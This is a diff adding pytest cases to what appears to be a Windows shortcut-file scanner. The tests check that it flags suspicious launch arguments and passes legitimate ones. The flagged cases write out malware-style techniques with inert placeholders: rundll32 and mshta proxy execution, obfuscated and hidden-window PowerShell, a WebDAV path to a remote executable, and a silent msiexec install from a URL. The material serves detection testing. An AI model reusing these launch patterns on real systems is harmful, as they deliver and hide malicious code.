@@ -217,3 +217,53 @@ def test_cut_shortcuts_are_never_clean():
     for length in range(0x4C, len(data) - 4, 3):
         found = findings(data[:length])
         assert found["damaged"].incomplete or "odd-structure" in found, length
+
+
+@pytest.mark.parametrize(
+    ("target", "arguments", "rule"),
+    [
+        (SYSTEM + "rundll32.exe", "inert.dll,Start", "beside-shortcut"),
+        (CMD, "/c start inert.vbs & start explorer Photos & exit", "beside-shortcut"),
+        (CMD, "/c inert\\inert.bat", "beside-shortcut"),
+        (SYSTEM + "rundll32.exe", "C:\\Inert\\inert.dat,#1", "proxy-execution"),
+        (SYSTEM + "mshta.exe", " " * 400 + "vbscript:Close()", "proxy-execution"),
+        (CMD, "/c type inert.txt | cmd", "text-as-code"),
+        (POWERSHELL, "-c \"&($env:comspec[4,26,25]-join'') 'echo inert'\"", "obfuscated-command"),
+        (POWERSHELL, "\u2013w hidden \u2013c inert", "hidden-window"),
+        ("C:\\Windows\\explorer.exe", "\\\\198.51.100.7@8080\\dav\\inert.exe", "remote-code"),
+        (SYSTEM + "msiexec.exe", "/q /IhTtP://host.invalid/a", "download"),
+        ("E:\\RECYCLER\\inert.exe", "", "unseen-folder"),
+    ],
+)
+def test_ways_to_start_are_seen(target, arguments, rule):
+    data = shortcut(target, arguments)
+    assert rule in findings(data)
+    assert scan(data, name="a.lnk", plugins=[]).level >= Level.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("target", "arguments"),
+    [
+        (CMD, "/c start http://localhost:8080"),
+        (CMD, '/c net use Z: "\\\\fileserver\\share"'),
+        (CMD, '/k ""C:\\Program Files\\Inert\\vars.bat"" x86'),
+        (POWERSHELL, '-WindowStyle Hidden -File "C:\\Program Files\\Inert\\tray.ps1"'),
+        (POWERSHELL, "-ExecutionPolicy ByPass -NoExit -Command \"& 'C:\\ProgramData\\Inert\\shell\\bin\\hook.ps1'\""),
+        (SYSTEM + "rundll32.exe", "shell32.dll,Control_RunDLL mmsys.cpl,,0"),
+        (SYSTEM + "control.exe", "appwiz.cpl"),
+        ("\\\\fileserver\\apps\\inert.exe", ""),
+        ("C:\\Windows\\hh.exe", "inert.chm"),
+    ],
+)
+def test_honest_ways_to_start_are_left_alone(target, arguments):
+    assert scan(shortcut(target, arguments), name="a.lnk", plugins=[]).level is Level.CLEAN
+
+
+def test_a_working_folder_says_where_a_bare_name_leads():
+    installed = shortcut(CMD, "/c start inert.exe", working_dir="C:\\Program Files\\Inert")
+    assert "beside-shortcut" not in findings(installed)
+
+
+def test_filler_and_what_is_behind_it_are_both_told():
+    found = findings(shortcut() + bytes(5000) + bytes(range(256)) * 40)
+    assert {"overlay", "overlay-filler"} <= set(found)
